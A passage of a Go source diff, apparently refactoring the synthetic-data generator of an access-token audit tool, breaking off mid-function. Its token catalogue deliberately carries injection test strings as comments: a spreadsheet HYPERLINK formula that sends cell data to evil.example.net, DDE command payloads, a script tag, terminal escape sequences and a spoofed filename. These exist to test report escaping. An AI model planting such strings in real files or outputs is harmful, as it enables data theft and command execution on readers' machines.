@@ -8,6 +8,7 @@ import (
 	"hash/fnv"
 	"math/rand/v2"
 	"slices"
+	"strconv"
 	"strings"
 )
 
@@ -23,38 +24,25 @@ func stream(seed uint64, part string) *rand.Rand {
 	return rand.New(rand.NewPCG(seed, h.Sum64()))
 }
 
-// populate fills a new account.
-func populate(a *Account) {
-	rng := stream(a.opts.Seed, "account")
-	a.id = uuid(rng)
-	a.directory = &directory{byID: map[int64]*principal{}, byName: map[string]*principal{}}
-	cast := peopleOf(a, rng)
-	for i := range a.opts.Workspaces {
-		a.workspaces = append(a.workspaces, newWorkspace(a, i, cast))
-	}
-}
-
 func uuid(rng *rand.Rand) string {
 	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x",
 		rng.Uint32(), rng.Uint32()&0xffff, rng.Uint32()&0xfff, 0x8000|rng.Uint32()&0x3fff, rng.Uint64()&0xffffffffffff)
 }
 
-func hexString(rng *rand.Rand, bytes int) string {
-	b := make([]byte, bytes)
+// secret is a credential of 16 random bytes.
+func secret(rng *rand.Rand, prefix string) string {
+	b := make([]byte, 16)
 	for i := range b {
 		b[i] = byte(rng.Uint32())
 	}
-	return hex.EncodeToString(b)
+	return prefix + hex.EncodeToString(b)
 }
 
-// people are the principals that tokens are handed out to, by role.
+// people are the principals that tokens are handed out to, by role: persons, and
+// groups of alike ones.
 type people struct {
-	admin, viewer, nested, deepNested *principal
-	contractor, elsewhere             *principal
-	direct                            *principal // has a grant of its own in the dev workspace
-	active, inactive, services        []*principal
-	busy                              []*principal // hold many tokens
-	departed                          []*principal // in no directory
+	person map[string]*principal
+	alike  map[string][]*principal
 }
 
 // caster makes principals with ids that never collide: the low bits count.
@@ -74,80 +62,82 @@ func (c *caster) newID() int64 {
 }
 
 func (c *caster) user(name, display string) *principal {
-	return c.dir.add(&principal{User: User{ID: c.newID(), Name: name, DisplayName: display, Active: true}})
+	return c.dir.add(User{ID: c.newID(), Name: name, DisplayName: display, Active: true})
 }
 
 func (c *caster) service(display string) *principal {
-	return c.dir.add(&principal{User: User{ID: c.newID(), Name: uuid(c.rng), DisplayName: display, Active: true, Service: true}})
+	return c.dir.add(User{ID: c.newID(), Name: uuid(c.rng), DisplayName: display, Active: true, Service: true})
 }
 
-// peopleOf fills the directory. Its size follows the number of tokens, but the
-// special roles are always there.
-func peopleOf(a *Account, rng *rand.Rand) *people {
+// populate fills a new account. The size of the directory follows the number of
+// tokens, but the special roles are always there.
+func populate(a *Account) {
+	rng := stream(a.opts.Seed, "account")
+	a.id = uuid(rng)
+	a.directory = &directory{byID: map[int64]*principal{}, byName: map[string]*principal{}}
 	c := &caster{dir: a.directory, rng: rng}
 	tokens := a.opts.Tokens
-	cast := &people{}
-	cast.admin = c.user("patrol-admin@example.com", "Patrol Admin")
-	cast.admin.accountAdmin = true
-	cast.viewer = c.user("viewer@example.com", "Viewer Without Rights")
-	cast.nested = c.user("platform.lead@example.com", "Platform Lead")
-	cast.deepNested = c.user("on.call@example.com", "On Call")
-	cast.contractor = c.user("contractor@example.net", "External Contractor")
-	cast.elsewhere = c.user("moved.on@example.com", "Moved To Another Workspace")
-	cast.busy = append(cast.busy, c.user("busy.builder@example.com", "Busy Builder"))
+	cast := &people{map[string]*principal{}, map[string][]*principal{}}
+	join := func(role string, p *principal) { cast.alike[role] = append(cast.alike[role], p) }
+	for _, p := range [][3]string{
+		{"admin", "patrol-admin@example.com", "Patrol Admin"},
+		{"viewer", "viewer@example.com", "Viewer Without Rights"},
+		{"nested", "platform.lead@example.com", "Platform Lead"},
+		{"deep nested", "on.call@example.com", "On Call"},
+		{"contractor", "contractor@example.net", "External Contractor"},
+		{"elsewhere", "moved.on@example.com", "Moved To Another Workspace"},
+	} {
+		cast.person[p[0]] = c.user(p[1], p[2])
+	}
+	cast.person["admin"].accountAdmin = true
+	join("busy", c.user("busy.builder@example.com", "Busy Builder"))
 	for i := range 2 {
 		p := c.user(fmt.Sprintf("deactivated%02d@example.com", i+1), "Deactivated User")
 		p.Active = false
-		cast.inactive = append(cast.inactive, p)
+		join("inactive", p)
 	}
 	// Display names that are hard on tables, terminals and quoting.
-	for _, display := range []string{
+	for i, display := range []string{
 		"User 001", "Zoë O'Brien 🚀", "מ. משתמש", "مستخدم تجريبي", `Pat "Quotes", Jr.; Sr.`, "=1+1 Formula", "用户 七",
 	} {
-		cast.active = append(cast.active, c.user(fmt.Sprintf("user%03d@example.com", len(cast.active)+1), display))
+		join("active", c.user(fmt.Sprintf("user%03d@example.com", i+1), display))
 	}
-	cast.direct = cast.active[2]
 	for i := range tokens/4 + 12 { // ordinary people: a quarter as many as tokens
-		number := len(cast.active) + len(cast.inactive) - 1
-		p := c.user(fmt.Sprintf("user%03d@example.com", number), fmt.Sprintf("User %03d", number))
-		switch {
-		case i%24 == 23:
-			p.Active = false
-			cast.inactive = append(cast.inactive, p)
+		p := c.user(fmt.Sprintf("user%03d@example.com", i+8), fmt.Sprintf("User %03d", i+8))
+		p.Active = i%24 != 23
+		if !p.Active {
+			join("inactive", p)
 			continue
-		case i%512 == 511:
-			cast.busy = append(cast.busy, p)
 		}
-		cast.active = append(cast.active, p)
+		if i%512 == 511 {
+			join("busy", p)
+		}
+		join("active", p)
 	}
-	for i := range tokens/100 + 1 {
-		cast.departed = append(cast.departed, &principal{User: User{ID: c.newID(), Name: fmt.Sprintf("former%02d@example.com", i+1)}})
+	for i := range tokens/100 + 1 { // they are in no directory
+		join("departed", &principal{User: User{ID: c.newID(), Name: fmt.Sprintf("former%02d@example.com", i+1)}})
 	}
 	auditor := c.service("account-auditor")
-	auditor.accountAdmin, auditor.secret = true, "dose"+hexString(c.rng, 16)
-	c.dir.auditor = auditor
+	auditor.accountAdmin, auditor.secret = true, secret(rng, "dose")
+	a.directory.auditor = auditor
 	for _, name := range []string{"etl-runner", "ci-deployer", `dbt "nightly"; job`, "bi-gateway 📊"} {
-		cast.services = append(cast.services, c.service(name))
+		join("service", c.service(name))
 	}
 	c.service("retired-loader").Active = false
 	for i := range tokens / 40 {
-		cast.services = append(cast.services, c.service(fmt.Sprintf("service-%03d", i+1)))
+		join("service", c.service(fmt.Sprintf("service-%03d", i+1)))
 	}
 	// Every workspace puts platform-admins into its admins; break-glass is nested in it.
-	newGroup := func(name string) *group {
-		g := &group{id: c.newID(), name: name, account: true}
-		c.dir.groups = append(c.dir.groups, g)
-		return g
+	for _, name := range []string{"platform-admins", "break-glass", "data-engineers", "ml-team 🤖"} {
+		g := newGroup(c.newID(), name)
+		g.account = true
+		a.directory.groups = append(a.directory.groups, g)
 	}
-	platform, glass := newGroup("platform-admins"), newGroup("break-glass")
-	engineers, science := newGroup("data-engineers"), newGroup("ml-team 🤖")
-	platform.add(cast.nested)
-	platform.nest(glass)
-	glass.add(cast.deepNested)
-	engineers.add(cast.viewer)
-	engineers.add(cast.services[0])
-	engineers.add(cast.contractor)
-	for i, p := range cast.active[:min(len(cast.active), 400)] {
+	platform, glass, engineers, science := a.directory.groups[0], a.directory.groups[1], a.directory.groups[2], a.directory.groups[3]
+	platform.members = []*principal{cast.person["nested"], glass}
+	glass.members = []*principal{cast.person["deep nested"]}
+	engineers.members = []*principal{cast.person["viewer"], cast.alike["service"][0], cast.person["contractor"]}
+	for i, p := range cast.alike["active"][:min(len(cast.alike["active"]), 400)] {
 		switch i % 4 {
 		case 1:
 			engineers.add(p)
@@ -155,7 +145,9 @@ func peopleOf(a *Account, rng *rand.Rand) *people {
 			science.add(p)
 		}
 	}
-	return cast
+	for i := range a.opts.Workspaces {
+		a.workspaces = append(a.workspaces, newWorkspace(a, i, cast))
+	}
 }
 
 // newWorkspace is a workspace with its settings and tokens: production is lax on
@@ -167,21 +159,21 @@ func newWorkspace(a *Account, i int, cast *people) *workspace {
 		name, env = []string{"prod-analytics", "dev-sandbox"}[i], []string{"prod", "dev"}[i]
 	}
 	rng := stream(a.opts.Seed, "workspace "+name)
+	admin, viewer := cast.person["admin"], cast.person["viewer"]
 	ws := &workspace{
 		Workspace: Workspace{
 			Name: name, Cloud: cloud[0], Profile: name, Labels: map[string]string{"env": env, "cloud": cloud[0]},
-			Admin: cast.admin.Name, Viewer: cast.viewer.Name,
+			Admin: admin.Name, Viewer: viewer.Name,
 		},
-		region: cloud[1], created: a.born.AddDate(-3, 0, -i).UnixMilli(),
-		admin: cast.admin, viewer: cast.viewer,
-		outside: map[int64]bool{cast.elsewhere.ID: true}, grantState: GrantsInitialised,
+		region: cloud[1], created: a.born.AddDate(-3, 0, -i).UnixMilli(), admin: admin, viewer: viewer,
+		outside: cast.person["elsewhere"].ID, grantState: GrantsInitialised,
 	}
 	if i%2 == 0 { // above 2^53 for every other workspace, the first included
 		ws.ID = bigID + rng.Int64N(1<<50)*2 + 1
 	} else {
 		ws.ID = 1e15 + rng.Int64N(7e15)
 	}
-	ws.Token, ws.ViewerToken = "dapi"+hexString(rng, 16), "dapi"+hexString(rng, 16)
+	ws.Token, ws.ViewerToken = secret(rng, "dapi"), secret(rng, "dapi")
 	switch ws.Cloud {
 	case "azure":
 		ws.deployment = fmt.Sprintf("adb-%d.%d", ws.ID, i+3)
@@ -189,18 +181,14 @@ func newWorkspace(a *Account, i int, cast *people) *workspace {
 		ws.deployment = fmt.Sprintf("%d.%d", ws.ID, i+3)
 	default:
 		sum := sha256.Sum256([]byte(ws.Name))
-		ws.deployment = "dbc-" + hex.EncodeToString(sum[:4]) + "-" + hex.EncodeToString(sum[4:6])
+		ws.deployment = fmt.Sprintf("dbc-%x-%x", sum[:4], sum[4:6])
 	}
 	c := &caster{dir: a.directory, rng: rng, next: int64(1<<20 + 16*i)}
 	ws.client = c.service(name + "-automation")
-	ws.client.secret = "dose" + hexString(rng, 16)
+	ws.client.secret = secret(rng, "dose")
 	ws.ClientID, ws.ClientSecret = ws.client.Name, ws.client.secret
-	ws.admins = &group{id: c.newID(), name: "admins"}
-	ws.users = &group{id: c.newID(), name: "users"}
-	for _, p := range []*principal{cast.admin, ws.client, a.directory.auditor, cast.active[0]} {
-		ws.admins.add(p)
-	}
-	ws.admins.nest(a.directory.group("platform-admins"))
+	ws.admins, ws.users = newGroup(c.newID(), "admins"), newGroup(c.newID(), "users")
+	ws.admins.members = []*principal{admin, ws.client, a.directory.auditor, cast.alike["active"][0], a.directory.groups[0]}
 	switch i {
 	case 0:
 		ws.conf = map[string]string{
@@ -217,7 +205,7 @@ func newWorkspace(a *Account, i int, cast *people) *workspace {
 		ws.grants = []Grant{
 			{GroupName: "admins", Level: CanUse}, // a second level on the admins' entry
 			{GroupName: "data-engineers", Level: CanUse},
-			{UserName: cast.direct.Name, Level: CanUse},
+			{UserName: cast.alike["active"][2].Name, Level: CanUse},
 		}
 		ws.restrict = restrictSetting{status: RestrictTokensAndJobRuns, version: 4}
 		ws.ipLists = []IPList{
@@ -246,257 +234,194 @@ const (
 	autoscopeAPINotCovered = "AUTOSCOPE_STATE_API_NOT_COVERED"
 )
 
-// kind is one sort of token. The first tokens of a workspace are one of each
-// row, in order; the rest are drawn by weight.
-type kind struct {
-	name   string
-	weight int // relative share among the drawn tokens; 0 never drawn
-	owner  func(*generator) *principal
-	life   func(*generator, *Token)
-	// comment is that of the one of the row; drawn tokens have ordinary ones.
-	comment func(*generator) string
-	scopes  Token // its scopes and state of autoscope
-}
-
-// kinds is the catalogue; at most 40 rows, so that a workspace of 40 tokens has
-// them all. Hostile comments sit on tokens that break policy, because that is
-// where they reach reports.
-func kinds() []kind {
-	sql := []string{"sql", "unity-catalog"}
-	return []kind{
-		{name: "caller", owner: callersOwn, life: daily(90, 10), comment: text("patrol audit")},
-		{name: "healthy", weight: 600, life: healthy, comment: text("OPS-1234 nightly load")},
-		{name: "endless", weight: 40, life: lived(forever, 400, 1), comment: text(`=HYPERLINK("https://evil.example.net/?x="&A1,"renew")`)},
-		{name: "never-used-old", weight: 40, life: lived(90, 45, unused), comment: text("<script>alert(1)</script>")},
-		{name: "unused-over-90-days", weight: 60, life: lived(365, 200, 120), comment: text("+cmd|' /C calc'!A0")},
-		{name: "lifetime-365", weight: 30, life: lived(365, 60, 0), comment: text("@SUM(1+1)*cmd|' /C calc'!A0")},
-		{name: "lifetime-730", weight: 20, life: lived(730, 400, 2), comment: text("\x1b[31mred\x1b[0m alert\x1b[2J")},
-		{name: "expired", weight: 40, life: lived(60, 70, 20), comment: text("\x1b]8;;https://evil.example.net/\x1b\\link\x1b]8;;\x1b\\")},
-		{name: "secret-in-comment", weight: 3, owner: busy, life: healthy, comment: fakeSecret},
-		{name: "deactivated-owner", weight: 15, owner: inactive, life: lived(60, 30, 12), comment: text("invoice\u202Egpj.exe")},
-		{name: "departed-owner", weight: 8, owner: departed, life: lived(60, 30, 25), comment: text("left\x00over")},
-		{name: "on-behalf-of", weight: 30, owner: service, life: onBehalf, comment: text("OPS-77 deployment pipeline")},
-		{name: "expiring-soon", weight: 20, life: lived(60, 57, 0), comment: text("renew me")},
-		{name: "scope-authentication", weight: 3, owner: busy, life: healthy, comment: text("token broker"),
-			scopes: Token{Scopes: []string{"authentication"}}},
-		{name: "lifetime-90-exactly", weight: 10, life: daily(90, 20), comment: text("90 days, not a second more")},
-		{name: "lifetime-90-and-30s", weight: 5, life: slightlyOver, comment: text("_x000D_ literal")},
-		{name: "issued-365-ten-days-left", weight: 10, life: lived(365, 355, 0), comment: text("DATA-9 yearly token")},
-		{name: "never-used-young", weight: 40, life: lived(60, 3, unused), comment: text("just created")},
-		{name: "rotation-leftover", weight: 8, life: lived(85, 50, 20), comment: text("airflow prod")},
-		{name: "rotation-successor", owner: sameOwner, life: lived(85, 20, 0), comment: sameComment},
-		{name: "contractor-owner", weight: 3, owner: contractor, life: lived(60, 20, 1), comment: text("vendor, access")},
-		{name: "nested-admin-owner", weight: 2, owner: nested, life: healthy, comment: text("break glass")},
-		{name: "deep-nested-admin-owner", weight: 2, owner: deepNested, life: healthy, comment: text("on call")},
-		{name: "owner-outside-workspace", weight: 1, owner: elsewhere, life: lived(60, 40, 35), comment: text("moved on")},
-		{name: "viewer", owner: viewer, life: daily(60, 5), comment: text("viewer laptop")},
-		{name: "scoped", weight: 10, owner: busy, life: healthy, comment: text("dashboard, read only"),
-			scopes: Token{Scopes: sql, AutoscopeState: autoscopeUserSelected}},
-		{name: "autoscope-disabled", weight: 5, owner: busy, life: healthy, comment: text("autoscope off"),
-			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeDisabled}},
-		{name: "autoscope-running", weight: 5, owner: busy, life: healthy, comment: text("autoscope observing"),
-			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeRunning, InferredScopes: sql}},
-		{name: "autoscope-completed", weight: 5, owner: busy, life: healthy, comment: text("autoscope done"),
-			scopes: Token{Scopes: sql, AutoscopeState: autoscopeCompleted, InferredScopes: sql}},
-		{name: "autoscope-backfilled", weight: 5, owner: busy, life: healthy, comment: text("autoscope from history"),
-			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeBackfilled, BackfillScopes: []string{"jobs", "clusters"}}},
-		{name: "autoscope-not-covered", weight: 2, owner: busy, life: healthy, comment: text("autoscope impossible"),
-			scopes: Token{Scopes: []string{"all-apis"}, AutoscopeState: autoscopeAPINotCovered}},
-		{name: "empty-comment", weight: 10, life: healthy, comment: text("")},
-		{name: "expiry-cliff", weight: 15, life: cliff, comment: text("\ttab first")},
-		{name: "expiry-cliff", life: cliff, comment: text("two\r\nlines")},
-		{name: "expiry-cliff", life: cliff, comment: text("🔥 emoji 👩‍💻 é")},
-		{name: "expiry-cliff", life: cliff, comment: text(`"quotes",commas;semicolons`)},
-		{name: "expiry-cliff", life: cliff, comment: text(strings.Repeat("64 KiB of comment, ", 4<<10)[:64<<10])},
-		{name: "owner-with-many-tokens", weight: 15, owner: busy, life: healthy, comment: text("scratch 1")},
-		{name: "owner-with-many-tokens", owner: busy, life: healthy, comment: text("scratch 2")},
-		{name: "service-principal", weight: 40, owner: service, life: healthy, comment: text("self-service token")},
-	}
-}
-
-// generator makes the tokens of one workspace.
-type generator struct {
-	rng     *rand.Rand
-	now     int64
-	cast    *people
-	ws      *workspace
-	drawn   bool       // past the one-of-each part
-	last    *Token     // for the second half of a rotation
-	owner   *principal // of the last
-	counter int
-}
-
-// fillTokens generates the workspace's tokens: one of each kind, then by weight.
-func fillTokens(a *Account, ws *workspace, cast *people, rng *rand.Rand) {
-	count := a.opts.Tokens
-	ws.tokens = newTokenStore(count)
-	g := &generator{rng: rng, now: a.born.UnixMilli(), cast: cast, ws: ws}
-	catalogue := kinds()
-	successor := slices.IndexFunc(catalogue, func(k kind) bool { return k.name == "rotation-successor" })
-	var wheel []int // each index as often as its weight
-	for i, k := range catalogue {
-		for range k.weight {
-			wheel = append(wheel, i)
-		}
-	}
-	block := make([]Token, count) // one allocation for all
-	for i := range block {
-		k := &catalogue[min(i, len(catalogue)-1)]
-		if g.drawn = i >= len(catalogue); g.drawn {
-			k = &catalogue[wheel[rng.IntN(len(wheel))]]
-			if g.last != nil && g.last.Kind == "rotation-leftover" {
-				k = &catalogue[successor]
-			}
-		}
-		t := &block[i]
-		*t = k.scopes
-		t.Kind, t.ID = k.name, g.tokenID(k)
-		p := g.anyone()
-		if k.owner != nil {
-			p = k.owner(g)
-		}
-		t.OwnerID, t.CreatedByID, t.CreatedByUsername = p.ID, p.ID, p.Name
-		g.owner = p
-		if !g.drawn || k.name == "rotation-successor" || k.name == "secret-in-comment" {
-			t.Comment = k.comment(g)
-		} else {
-			t.Comment = g.ordinaryComment()
-		}
-		k.life(g, t)
-		g.last = t
-		ws.tokens.put(t)
-	}
-}
-
-// tokenID makes the id from a value, as the service does. Values are not kept,
-// apart from those of the two tokens that clients use.
-func (g *generator) tokenID(k *kind) string {
-	switch k.name {
-	case "caller":
-		return tokenIDOf(g.ws.Token)
-	case "viewer":
-		return tokenIDOf(g.ws.ViewerToken)
-	}
-	var id [sha256.Size]byte
-	for i := 0; i < len(id); i += 8 {
-		binary.LittleEndian.PutUint64(id[i:], g.rng.Uint64())
-	}
-	return hex.EncodeToString(id[:])
-}
-
-func pick(rng *rand.Rand, from []*principal) *principal { return from[rng.IntN(len(from))] }
-
-// firstOr is the leading one of a role for the one of its kind, and any for
-// drawn tokens.
-func (g *generator) firstOr(from []*principal) *principal {
-	if g.drawn {
-		return pick(g.rng, from)
-	}
-	return from[0]
-}
-
-func (g *generator) anyone() *principal { return pick(g.rng, g.cast.active) }
-
-func callersOwn(g *generator) *principal { return g.ws.admin }
-func viewer(g *generator) *principal     { return g.ws.viewer }
-func inactive(g *generator) *principal   { return pick(g.rng, g.cast.inactive) }
-func departed(g *generator) *principal   { return g.firstOr(g.cast.departed) }
-func service(g *generator) *principal    { return g.firstOr(g.cast.services) }
-func sameOwner(g *generator) *principal  { return g.owner }
-
-func nested(g *generator) *principal     { return g.special(g.cast.nested) }
-func deepNested(g *generator) *principal { return g.special(g.cast.deepNested) }
-func contractor(g *generator) *principal { return g.special(g.cast.contractor) }
-func elsewhere(g *generator) *principal  { return g.special(g.cast.elsewhere) }
-func busy(g *generator) *principal       { return g.firstOr(g.cast.busy) }
-
-// special hands a token to a particular person while that is plausible; in a
-// huge workspace one person would soon exceed the quota of live tokens.
-func (g *generator) special(p *principal) *principal {
-	if g.counter++; g.counter > tokenQuota/4 {
-		return g.anyone()
-	}
-	return p
-}
-
 const (
 	forever = -1 // lifetime
 	unused  = -1 // days since the last use
 )
 
-// lived makes a lifetime of so many days, aged so many, last used so many days
-// ago. Drawn tokens vary a little, to the same effect.
-func lived(lifeDays, ageDays, idleDays int64) func(*generator, *Token) {
-	return func(g *generator, t *Token) {
-		jitter := g.rng.Int64N(dayMillis / 2)
-		t.CreationTime = g.now - ageDays*dayMillis - jitter
-		t.ExpiryTime = never
-		if lifeDays != forever {
-			t.ExpiryTime = t.CreationTime + lifeDays*dayMillis
-		}
-		if idleDays != unused {
-			t.LastUsedDay = midnight(g.now - idleDays*dayMillis)
+// life is how long a token lives, its age and how long ago it was used, in days.
+// Drawn tokens vary a little, to the same effect. The zero life is a healthy one:
+// 30 to 85 days, of which at least 15 are left, and in use.
+type life struct{ days, age, idle int64 }
+
+// kind is one sort of token. The first tokens of a workspace are one of each
+// row, in order; the rest are drawn by weight.
+type kind struct {
+	name    string
+	weight  int    // relative share among the drawn tokens; 0 never drawn
+	role    string // of the owner; "": anybody active
+	life    life
+	comment string // of the one of the row; drawn tokens have ordinary ones
+	scopes  Token  // its scopes and state of autoscope
+}
+
+// Rows that are made in a way of their own.
+const (
+	secretInComment   = "secret-in-comment"
+	rotationLeftover  = "rotation-leftover"
+	rotationSuccessor = "rotation-successor"
+	expiryCliff       = "expiry-cliff"
+)
+
+// kinds is the catalogue; at most 40 rows, so that a workspace of 40 tokens has
+// them all. Hostile comments sit on tokens that break policy, because that is
+// where they reach reports.
+var kinds = []kind{
+	{"caller", 0, "admin", life{90, 10, 0}, "patrol audit", Token{}},
+	{"healthy", 600, "", life{}, "OPS-1234 nightly load", Token{}},
+	{"endless", 40, "", life{forever, 400, 1}, `=HYPERLINK("https://evil.example.net/?x="&A1,"renew")`, Token{}},
+	{"never-used-old", 40, "", life{90, 45, unused}, "<script>alert(1)</script>", Token{}},
+	{"unused-over-90-days", 60, "", life{365, 200, 120}, "+cmd|' /C calc'!A0", Token{}},
+	{"lifetime-365", 30, "", life{365, 60, 0}, "@SUM(1+1)*cmd|' /C calc'!A0", Token{}},
+	{"lifetime-730", 20, "", life{730, 400, 2}, "\x1b[31mred\x1b[0m alert\x1b[2J", Token{}},
+	{"expired", 40, "", life{60, 70, 20}, "\x1b]8;;https://evil.example.net/\x1b\\link\x1b]8;;\x1b\\", Token{}},
+	{secretInComment, 3, "busy", life{}, "", Token{}},
+	{"deactivated-owner", 15, "inactive", life{60, 30, 12}, "invoice\u202Egpj.exe", Token{}},
+	{"departed-owner", 8, "departed", life{60, 30, 25}, "left\x00over", Token{}},
+	{"on-behalf-of", 30, "service", life{}, "OPS-77 deployment pipeline", Token{}},
+	{"expiring-soon", 20, "", life{60, 57, 0}, "renew me", Token{}},
+	{"scope-authentication", 3, "busy", life{}, "token broker", Token{Scopes: []string{"authentication"}}},
+	{"lifetime-90-exactly", 10, "", life{90, 20, 0}, "90 days, not a second more", Token{}},
+	{"lifetime-90-and-30s", 5, "", life{90, 15, 0}, "_x000D_ literal", Token{}},
+	{"issued-365-ten-days-left", 10, "", life{365, 355, 0}, "DATA-9 yearly token", Token{}},
+	{"never-used-young", 40, "", life{60, 3, unused}, "just created", Token{}},
+	{rotationLeftover, 8, "", life{85, 50, 20}, "airflow prod", Token{}},
+	{rotationSuccessor, 0, "", life{85, 20, 0}, "", Token{}},
+	{"contractor-owner", 3, "contractor", life{60, 20, 1}, "vendor, access", Token{}},
+	{"nested-admin-owner", 2, "nested", life{}, "break glass", Token{}},
+	{"deep-nested-admin-owner", 2, "deep nested", life{}, "on call", Token{}},
+	{"owner-outside-workspace", 1, "elsewhere", life{60, 40, 35}, "moved on", Token{}},
+	{"viewer", 0, "viewer", life{60, 5, 0}, "viewer laptop", Token{}},
+	{"scoped", 10, "busy", life{}, "dashboard, read only",
+		Token{Scopes: []string{"sql", "unity-catalog"}, AutoscopeState: autoscopeUserSelected}},
+	{"autoscope-disabled", 5, "busy", life{}, "autoscope off",
+		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeDisabled}},
+	{"autoscope-running", 5, "busy", life{}, "autoscope observing",
+		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeRunning, InferredScopes: []string{"sql", "unity-catalog"}}},
+	{"autoscope-completed", 5, "busy", life{}, "autoscope done",
+		Token{Scopes: []string{"sql", "unity-catalog"}, AutoscopeState: autoscopeCompleted, InferredScopes: []string{"sql", "unity-catalog"}}},
+	{"autoscope-backfilled", 5, "busy", life{}, "autoscope from history",
+		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeBackfilled, BackfillScopes: []string{"jobs", "clusters"}}},
+	{"autoscope-not-covered", 2, "busy", life{}, "autoscope impossible",
+		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeAPINotCovered}},
+	{"empty-comment", 10, "", life{}, "", Token{}},
+	{expiryCliff, 15, "", life{}, "\ttab first", Token{}},
+	{expiryCliff, 0, "", life{}, "two\r\nlines", Token{}},
+	{expiryCliff, 0, "", life{}, "🔥 emoji 👩‍💻 é", Token{}},
+	{expiryCliff, 0, "", life{}, `"quotes",commas;semicolons`, Token{}},
+	{expiryCliff, 0, "", life{}, strings.Repeat("64 KiB of comment, ", 4<<10)[:64<<10], Token{}},
+	{"owner-with-many-tokens", 15, "busy", life{}, "scratch 1", Token{}},
+	{"owner-with-many-tokens", 0, "busy", life{}, "scratch 2", Token{}},
+	{"service-principal", 40, "service", life{}, "self-service token", Token{}},
+}
+
+// ordinaryComments are drawn, those that stand here twice the more often; %d is a
+// number.
+var ordinaryComments = []string{
+	"OPS-%d nightly load", "OPS-%d nightly load", "OPS-%d nightly load", "DATA-%d dashboard refresh", "DATA-%d dashboard refresh", "INFRA-%d terraform",
+	"laptop", "laptop", "notebook sync", "ci run %d", "", "databricks-connect",
+}
+
+// fillTokens generates the workspace's tokens: one of each kind, then by weight.
+func fillTokens(a *Account, ws *workspace, cast *people, rng *rand.Rand) {
+	count, now := a.opts.Tokens, a.born.UnixMilli()
+	ws.tokens = tokenStore{rows: make([]*Token, 0, count), index: make(map[string]int, count)}
+	successor := slices.IndexFunc(kinds, func(k kind) bool { return k.name == rotationSuccessor })
+	var wheel []int // each index as often as its weight
+	for i, k := range kinds {
+		for range k.weight {
+			wheel = append(wheel, i)
 		}
 	}
-}
+	pick := func(role string) *principal { return cast.alike[role][rng.IntN(len(cast.alike[role]))] }
+	ofPersons := 0                        // tokens of particular persons
+	last, owner := &Token{}, &principal{} // those of the last round
+	block := make([]Token, count)         // one allocation for all
+	for i := range block {
+		k := &kinds[min(i, len(kinds)-1)]
+		drawn := i >= len(kinds)
+		if drawn {
+			k = &kinds[wheel[rng.IntN(len(wheel))]]
+			if last.Kind == rotationLeftover {
+				k = &kinds[successor]
+			}
+		}
+		t := &block[i]
+		*t = k.scopes
+		t.Kind = k.name
+		// The id follows from a value, as with the service. Values are not kept, apart
+		// from those of the two tokens that clients use.
+		switch k.name {
+		case "caller":
+			t.ID = tokenIDOf(ws.Token)
+		case "viewer":
+			t.ID = tokenIDOf(ws.ViewerToken)
+		default:
+			var id [sha256.Size]byte
+			for i := 0; i < len(id); i += 8 {
+				binary.LittleEndian.PutUint64(id[i:], rng.Uint64())
+			}
+			t.ID = hex.EncodeToString(id[:])
+		}
 
-// daily is in use every day.
-func daily(lifeDays, ageDays int64) func(*generator, *Token) { return lived(lifeDays, ageDays, 0) }
+		anyone := pick("active")
+		switch person := cast.person[k.role]; {
+		case k.name == rotationSuccessor: // the owner of the last
+		case person != nil:
+			// In a huge workspace one person would soon exceed the quota of live tokens.
+			owner = anyone
+			if ofPersons++; ofPersons <= tokenQuota/4 {
+				owner = person
+			}
+		case k.role == "":
+			owner = anyone
+		case drawn || k.role == "inactive":
+			owner = pick(k.role)
+		default:
+			owner = cast.alike[k.role][0]
+		}
+		t.OwnerID, t.CreatedByID, t.CreatedByUsername = owner.ID, owner.ID, owner.Name
+		if k.name == "on-behalf-of" {
+			t.CreatedByID, t.CreatedByUsername = ws.admin.ID, ws.admin.Name
+		}
 
-// healthy lives 30 to 85 days, has at least 15 left and is in use.
-func healthy(g *generator, t *Token) {
-	life := 30 + g.rng.Int64N(56)
-	age := g.rng.Int64N(life - 15)
-	lived(life, age, min(g.rng.Int64N(3), age))(g, t)
-}
+		switch {
+		case k.name == rotationSuccessor:
+			t.Comment = last.Comment
+		case k.name == secretInComment: // computed, for scanners of source code are right to complain about literals
+			sum := sha256.Sum256(fmt.Appendf(nil, "fake %s %d", ws.Name, rng.Uint64()))
+			t.Comment = "backup of dapi" + hex.EncodeToString(sum[:16])
+		case drawn:
+			number := strconv.Itoa(rng.IntN(9000) + 1000)
+			t.Comment = strings.Replace(ordinaryComments[rng.IntN(len(ordinaryComments))], "%d", number, 1)
+		default:
+			t.Comment = k.comment
+		}
 
-func slightlyOver(g *generator, t *Token) {
-	lived(90, 15, 0)(g, t)
-	t.ExpiryTime += 30 * 1000
-}
-
-// cliff expires in three weeks, on the same day as all of its kind.
-func cliff(g *generator, t *Token) {
-	life := 40 + g.rng.Int64N(40)
-	t.ExpiryTime = midnight(g.now) + 21*dayMillis + 8*60*60*1000 + g.rng.Int64N(8*60*60*1000)
-	t.CreationTime = t.ExpiryTime - life*dayMillis
-	t.LastUsedDay = midnight(g.now)
-}
-
-// onBehalf was created by the admin for a service principal.
-func onBehalf(g *generator, t *Token) {
-	healthy(g, t)
-	t.CreatedByID, t.CreatedByUsername = g.ws.admin.ID, g.ws.admin.Name
-}
-
-func text(s string) func(*generator) string { return func(*generator) string { return s } }
-
-func sameComment(g *generator) string { return g.last.Comment }
-
-// fakeSecret looks like a PAT. It is computed, for scanners of source code are
-// right to complain about literals.
-func fakeSecret(g *generator) string {
-	sum := sha256.Sum256(fmt.Appendf(nil, "fake %s %d", g.ws.Name, g.rng.Uint64()))
-	return "backup of dapi" + hex.EncodeToString(sum[:16])
-}
-
-func (g *generator) ordinaryComment() string {
-	n := g.rng.IntN(9000) + 1000
-	switch g.rng.IntN(12) {
-	case 0, 1, 2:
-		return fmt.Sprintf("OPS-%d nightly load", n)
-	case 3, 4:
-		return fmt.Sprintf("DATA-%d dashboard refresh", n)
-	case 5:
-		return fmt.Sprintf("INFRA-%d terraform", n)
-	case 6, 7:
-		return "laptop"
-	case 8:
-		return "notebook sync"
-	case 9:
-		return fmt.Sprintf("ci run %d", n)
